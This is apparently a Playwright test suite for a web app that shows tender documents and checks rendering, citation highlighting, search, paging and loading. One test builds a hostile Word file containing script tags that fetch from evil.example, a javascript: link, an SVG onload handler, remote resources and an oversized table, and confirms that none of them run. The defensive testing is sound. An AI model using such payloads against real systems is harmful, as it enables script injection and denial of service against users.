import type { Page } from '@playwright/test';
import { faultsOf } from './support/faults.ts';
import { makeDocx, makeXlsx, paragraph, picture } from './support/make-office.ts';
import { expect, makeTender, test } from './support/test.ts';

const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const cell = (text: string) => `<w:tc>${paragraph(text)}</w:tc>`;
const table = `<w:tbl><w:tr>${cell('Material')}${cell('Steel 316')}</w:tr></w:tbl>`;
const newPage = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>';

/** Counts how often files are fetched from here on. */
function fetchesOf(page: Page): () => number {
  let count = 0;
  page.on('request', (request) => {
    if (/\/documents\/[^/]+\/content/.test(request.url())) count += 1;
  });
  return () => count;
}

/** Changes the theme, and the width of the window in all its layouts. */
async function changeLooks(page: Page): Promise<void> {
  for (const name of ['Switch to dark theme', 'Switch to light theme'])
    await page.getByRole('button', { name }).click();
  for (const width of [1024, 390, 1440]) {
    await page.setViewportSize({ width, height: 900 });
    await expect(page.getByRole('button', { name: 'Zoom in' })).toBeVisible();
  }
  // Away from the button, whose tooltip would stay.
  await page.mouse.move(1, 450);
}

/** Downloads the shown file by the viewer. */
async function expectSaved(page: Page, name: string): Promise<void> {
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Save a copy' }).click();
  expect((await download).suggestedFilename()).toBe(name);
}

test('a Word document is shown in its layout; cited words are marked, and the text can be searched and read', async ({
  page,
  signedIn,
}) => {
  const path = await makeTender(signedIn, 'As it looks');
  await page.goto(path);
  const filler = Array.from({ length: 60 }, (_, at) => paragraph(`Remark ${at + 1} of no importance.`)).join('');
  const buffer = makeDocx(
    `${paragraph('Terms of supply')}${filler}${newPage}${paragraph('The performance ', 'guarantee amounts to ', '10% of the contract price.')}${table}`,
  );
  await page.locator('input[type=file]').first().setInputFiles({ name: 'terms.docx', mimeType: docxType, buffer });
  await page.getByLabel('Your question').fill('How much is the performance guarantee?');
  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
  await page.getByLabel('Your question').press('Enter');
  await page
    .getByRole('button', { name: /^Source 1/ })
    .first()
    .click();

  const frame = page.frameLocator('iframe');
  const marks = frame.locator('[data-highlight]');
  await expect(marks).toHaveText(['The performance ', 'guarantee amounts to ', '10% of the contract price.']);
  await expect(marks.first()).toBeInViewport();
  await expect(frame.locator('table')).toContainText('Steel 316');
  await expectSaved(page, 'terms.docx');
  await marks.first().click();
  // The frame has no scripts: the app takes the focus back a moment after the click.
  await expect(page.getByRole('region', { name: 'Pages of terms.docx' })).toBeFocused();
  await page.keyboard.press('Control+f');
  await page.getByRole('textbox', { name: 'Find in this document' }).fill('remark 5');
  await expect(page.getByText('1 of 11', { exact: true })).toBeVisible();
  await page.keyboard.press('Enter');
  await expect(page.getByText('2 of 11', { exact: true })).toBeVisible();
  await expect(frame.getByText('Remark 50 of')).toBeInViewport();
  await page.keyboard.press('Escape');
  const fetches = fetchesOf(page);
  await changeLooks(page);
  await expect(frame.getByText('Remark 50 of')).toBeInViewport();
  expect(fetches(), 'the open file is kept').toBe(0);
  for (const width of [1440, 390]) {
    await page.setViewportSize({ width, height: 900 });
    await expect(frame.getByText('Terms of supply')).toBeAttached();
    expect.soft(await faultsOf(page), `${width} px`).toEqual([]);
  }
  // Scrolling elsewhere in the document removed the mark.
  await page.setViewportSize({ width: 1440, height: 900 });
  await page
    .getByRole('button', { name: /^Source 1/ })
    .first()
    .click();
  await expect(marks.first()).toBeInViewport();
  // The reading position stays in view at another scale.
  for (let step = 0; step < 4; step += 1) await page.getByRole('button', { name: 'Zoom in' }).click();
  await expect(marks.first()).toBeInViewport();
  for (let step = 0; step < 7; step += 1) await page.getByRole('button', { name: 'Zoom out' }).click();
  await expect(marks.first()).toBeInViewport();
  await page.getByRole('button', { name: 'Show as text' }).click();
  await expect(page.locator('mark[data-highlight]')).toContainText('10% of the contract price');
  await page.setViewportSize({ width: 390, height: 900 });
  const note = page.getByText('This is the text that was read from the file.');
  await expect.poll(() => note.evaluate((element) => element.scrollWidth - element.clientWidth)).toBeLessThan(1);
  await expect.poll(async () => (await note.boundingBox())?.width ?? 0).toBeLessThan(390);
  expect((await note.boundingBox())?.height, 'in several lines').toBeGreaterThan(30);
});

test('a page of a Word document that is opened by its number keeps it over reloads', async ({ page, signedIn }) => {
  const path = await makeTender(signedIn, 'Pages of Word');
  await page.goto(path);
  // A file without marks of pages gets some of about 3,000 letters: those of short lines are longer.
  const terms = 'The goods are delivered as agreed, and the risk passes when they are taken over. '.repeat(6);
  const buffer = makeDocx(
    Array.from({ length: 700 }, (_, at) => paragraph(`Clause ${at + 1}: ${at < 400 ? 'none.' : terms}`)).join(''),
  );
  await page.locator('input[type=file]').first().setInputFiles({ name: 'long.docx', mimeType: docxType, buffer });
  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
  await page.getByRole('button', { name: 'long.docx', exact: true }).click();
  await expect(page).toHaveURL(/document=/);
  const id = new URL(page.url()).searchParams.get('document');
  await page.goto(`${path}?tab=document&document=${id}&page=9`);
  const field = page.getByLabel('Page', { exact: true });
  for (let round = 0; round < 3; round++) {
    await expect(page.frameLocator('iframe').getByText('Clause 1:')).toBeAttached();
    // Longer than it takes to write the page in view into the address.
    await page.waitForTimeout(1500);
    await expect(field).toHaveValue('9');
    await expect(page).toHaveURL(/page=9(&|$)/);
    await page.reload();
  }
});

test('Back leads from a cited place to the page that was in view before in a Word file', async ({ page, signedIn }) => {
  const path = await makeTender(signedIn, 'Back in a file');
  await page.goto(path);
  const filler = Array.from({ length: 20 }, (_, at) => paragraph(`Remark ${at + 1} of no importance.`)).join('');
  const guarantee = paragraph('The performance guarantee amounts to 10% of the contract price.');
  const terms = `${paragraph('Terms of supply')}${filler}${newPage}${filler}${newPage}${guarantee}`;
  const buffer = makeDocx(terms);
  await page.locator('input[type=file]').first().setInputFiles({ name: 'terms.docx', mimeType: docxType, buffer });
  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
  await page.getByRole('button', { name: 'terms.docx', exact: true }).click();
  await expect(page).toHaveURL(/document=.*page=1(&|$)/);
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('Terms of supply')).toBeInViewport();
  await page.getByLabel('Your question').fill('How much is the performance guarantee?');
  await page.getByLabel('Your question').press('Enter');
  await page
    .getByRole('button', { name: /^Source 1/ })
    .first()
    .click();
  await expect(frame.locator('[data-highlight]').first()).toBeInViewport();
  await page.goBack();
  await expect(frame.getByText('Terms of supply')).toBeInViewport();
  await expect(frame.locator('[data-highlight]')).toHaveCount(0);
  await expect(page.getByLabel('Page', { exact: true })).toHaveValue('1');
  await page.goForward();
  await expect(frame.locator('[data-highlight]').first()).toBeInViewport();
});

test('a hostile Word document runs nothing, fetches nothing and does not stop the screen', async ({
  page,
  signedIn,
}) => {
  const path = await makeTender(signedIn, 'Hostile');
  const outside: string[] = [];
  page.on('request', (request) => {
    if (/evil\.example/.test(request.url())) outside.push(request.url());
  });
  page.on('dialog', (dialog) => outside.push(dialog.message()));
  const script = '<script>parent.pwned = 1; fetch("https://evil.example/script")</script>';
  const hostile = makeDocx(
    `${paragraph('Before')}<w:p><w:hyperlink r:id="js"><w:r><w:t>Follow me</w:t></w:r></w:hyperlink></w:p><w:p><w:hyperlink r:id="web"><w:r><w:t>To a page</w:t></w:r></w:hyperlink></w:p>${picture('remote')}${picture('svg')}<w:altChunk r:id="chunk"/>${paragraph('After')}`,
    [
      ['js', 'hyperlink', 'javascript:parent.pwned=1'],
      ['web', 'hyperlink', 'https://evil.example/page'],
      ['remote', 'image', 'https://evil.example/pixel.png'],
      ['svg', 'image', 'media/image1.svg'],
      ['chunk', 'aFChunk', 'chunk.html'],
      ['template', 'attachedTemplate', 'https://evil.example/macro.dotm'],
    ],
    {
      'word/media/image1.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1">${script}<image href="https://evil.example/svg.png"/></svg>`,
      'word/chunk.html': `<html><body>${script}</body></html>`,
    },
  );
  const huge = makeDocx(
    `<w:tbl>${`<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(60)}</w:tr>`.repeat(4000)}</w:tbl>${paragraph('End of it')}`,
  );
  await page.goto(path);
  await page
    .locator('input[type=file]')
    .first()
    .setInputFiles([
      { name: 'hostile.docx', mimeType: docxType, buffer: hostile },
      { name: 'huge.docx', mimeType: docxType, buffer: huge },
    ]);
  const list = page.getByRole('list', { name: 'Documents of this tender' });
  await expect(list.getByText('Ready')).toHaveCount(2, { timeout: 60_000 });

  await list.getByText('hostile.docx').click();
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('After')).toBeVisible();
  await expect(frame.locator('script, iframe, object, [href], [onload]')).toHaveCount(0);
  await frame.getByText('Follow me').click();
  await frame.getByText('To a page').click();
  const question = page.getByRole('alertdialog');
  await expect(question).toContainText('https://evil.example/page');
  // The dialog takes the focus a moment after it is shown; before, the key belongs to the document's frame.
  await expect(question.locator(':focus')).toHaveCount(1);
  await page.keyboard.press('Escape');
  await expect(question).toHaveCount(0);

  await list.getByText('huge.docx').click();
  await expect(page.getByText('This file is too large to be shown as it looks.', { exact: false })).toBeVisible();
  await expect(page.locator('[data-page]')).toContainText('End of it');
  expect(outside).toEqual([]);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
});

test('a workbook is shown as sheets, and only the cells near the view are in the page', async ({ page, signedIn }) => {
  const path = await makeTender(signedIn, 'Sheets');
  await page.goto(path);
  const rows = Array.from({ length: 5000 }, (_, at) => [`P-${at + 1}`, 'Centrifugal pump', `Station ${at % 7}`]);
  const buffer = makeXlsx({
    Summary: [
      ['Item', 'Value'],
      ['Bid security', 'EUR 48,500'],
    ],
    Pumps: [['Tag', 'Description', 'Place'], ...rows],
  });
  await page.locator('input[type=file]').first().setInputFiles({ name: 'prices.xlsx', mimeType: xlsxType, buffer });
  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
  await page.getByLabel('Your question').fill('How much is the bid security?');
  await page.getByLabel('Your question').press('Enter');
  await page
    .getByRole('button', { name: /^Source 1/ })
    .first()
    .click();
  await expect(page.locator('[data-cell][data-highlight]').last()).toContainText('EUR 48,500');
  expect.soft(await faultsOf(page)).toEqual([]);

  await expectSaved(page, 'prices.xlsx');
  await page.getByRole('tab', { name: 'Pumps' }).click();
  await expect(page.getByRole('columnheader', { name: 'C', exact: true })).toBeVisible();
  expect(await page.locator('[data-cell]').count()).toBeLessThan(400);
  await page.getByLabel('Your question').focus();
  await page.keyboard.press('Control+f');
  await page.getByRole('textbox', { name: 'Find in this document' }).fill('P-4711');
  await expect(page.locator('[data-cell="4712:0"]')).toBeInViewport();
  await page.locator('[data-cell="4712:1"]').click();
  await expect(page.getByText('B4712')).toBeVisible();
  const fetches = fetchesOf(page);
  await changeLooks(page);
  await expect(page.locator('[data-cell="4712:1"]')).toBeInViewport();
  await expect(page.getByText('B4712')).toBeVisible();
  expect(fetches(), 'the open file is kept').toBe(0);
});

test('a Word file that opens slowly says so; one that does not go on can be tried again', async ({
  page,
  signedIn,
}) => {
  const path = await makeTender(signedIn, 'Slow drawing');
  await page.goto(path);
  const file = { name: 'slow.docx', mimeType: docxType, buffer: makeDocx(paragraph('Terms of supply')) };
  await page.locator('input[type=file]').first().setInputFiles(file);
  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
  // Its worker is code that is held back as long as the test wants.
  let release = () => {};
  const held = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.route(/prepare-docx\.worker/, async (route) => {
    await held;
    await route.continue();
  });
  await page.clock.install();
  await page.getByRole('button', { name: 'slow.docx', exact: true }).click();
  await expect(page.getByText('Opening the document')).toBeVisible();
  await page.clock.runFor(9000);
  await expect(page.getByRole('status').getByText('This takes longer than usual.')).toBeVisible();
  expect(await faultsOf(page)).toEqual([]);
  await page.clock.runFor(55_000);
  await expect(page.getByText('did not go on for a minute')).toBeVisible();
  await expect(page.getByRole('region', { name: /slow\.docx/ })).toContainText('Terms of supply');
  expect(await faultsOf(page)).toEqual([]);
  release();
  await page.getByRole('button', { name: 'Retry' }).click();
  await expect(page.frameLocator('iframe').getByText('Terms of supply')).toBeVisible();
});
